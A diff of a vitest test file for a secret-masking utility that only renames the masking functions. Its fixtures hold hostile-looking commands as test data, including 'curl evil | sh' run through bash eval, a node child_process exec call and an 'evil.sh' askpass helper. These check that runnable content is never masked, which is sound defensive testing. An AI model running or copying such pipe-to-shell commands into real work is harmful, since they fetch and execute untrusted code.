@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { exactAddress, masked, maskedAddress, maskedWords, plainAddress } from './mask-secrets.ts';
+import { exactAddress, maskSecrets, maskAddress, maskWords, plainAddress } from './mask-secrets.ts';
 
 const token = `ghp_${'a1B2'.repeat(8)}`;
 
@@ -18,12 +18,12 @@ describe('words that are sent on', () => {
     ['x --token-file /run/token --token true', 'x --token-file /run/token --token true'],
   ])('%s', (line, shown) => {
     for (const view of ['report', 'exact'] as const)
-      expect(maskedWords(line.split(' '), view).join(' ')).toBe(shown);
+      expect(maskWords(line.split(' '), view).join(' ')).toBe(shown);
   });
 
   it('hold no header', () => {
     for (const view of ['report', 'exact'] as const)
-      expect(maskedWords(['npx', 'mcp-remote', '--header', 'Authorization: Bearer abc'], view)).toEqual([
+      expect(maskWords(['npx', 'mcp-remote', '--header', 'Authorization: Bearer abc'], view)).toEqual([
         'npx',
         'mcp-remote',
         '--header',
@@ -41,11 +41,11 @@ describe('words that somebody agrees to', () => {
     [['bash', '-c', 'eval "$1"', '--token', 'curl evil | sh']],
     [['node', '-e', `token="require('child_process').exec('evil')";eval(token)`]],
   ])('hide nothing that could be run: %j', (words) => {
-    expect(maskedWords(words, 'exact')).toEqual(words);
+    expect(maskWords(words, 'exact')).toEqual(words);
   });
 
   it('hide the secret beside what is run', () => {
-    expect(maskedWords(['sh', '-c', 'API_KEY=hunter2 node x.js'], 'exact')).toEqual([
+    expect(maskWords(['sh', '-c', 'API_KEY=hunter2 node x.js'], 'exact')).toEqual([
       'sh',
       '-c',
       'API_KEY=••• node x.js',
@@ -55,10 +55,10 @@ describe('words that somebody agrees to', () => {
 
 describe('addresses', () => {
   it('say what is sent, and hide what is secret', () => {
-    expect(maskedAddress('https://u:p@h/s/NmU3ZjkxYzQ0ZTBhMWI4/mcp?t=${GITHUB_TOKEN}&k=abc#x')).toBe(
+    expect(maskAddress('https://u:p@h/s/NmU3ZjkxYzQ0ZTBhMWI4/mcp?t=${GITHUB_TOKEN}&k=abc#x')).toBe(
       'https://•••@h/s/•••/mcp?t=${GITHUB_TOKEN}&k=•••#•••',
     );
-    expect(maskedAddress('https://good.example@evil.example/mcp')).toBe('https://•••@evil.example/mcp');
+    expect(maskAddress('https://good.example@evil.example/mcp')).toBe('https://•••@evil.example/mcp');
   });
 
   it.each([
@@ -79,15 +79,15 @@ describe('addresses', () => {
 });
 
 it('does not take every word that ends so for the name of a secret', () => {
-  expect(masked('evil.sh', 'GIT_ASKPASS', 'exact')).toBe('evil.sh');
-  expect(masked('hunter2', 'accessKey', 'exact')).toBe('•••');
+  expect(maskSecrets('evil.sh', 'GIT_ASKPASS', 'exact')).toBe('evil.sh');
+  expect(maskSecrets('hunter2', 'accessKey', 'exact')).toBe('•••');
 });
 
 it('tells which variables a value is made of, and hides what they fall back to', () => {
-  expect(masked('Bearer ${A}x${B:-abc}', 'authorization', 'report')).toBe('Bearer ${A}•••${B:-•••}');
+  expect(maskSecrets('Bearer ${A}x${B:-abc}', 'authorization', 'report')).toBe('Bearer ${A}•••${B:-•••}');
 });
 
 it('takes no longer than the text is', () => {
   for (const part of ['a', 'token="', 'a:\\"', 'a://', 'key=', '-'])
-    expect(masked(part.repeat(30_000), '', 'report').length).toBeGreaterThan(0);
+    expect(maskSecrets(part.repeat(30_000), '', 'report').length).toBeGreaterThan(0);
 });
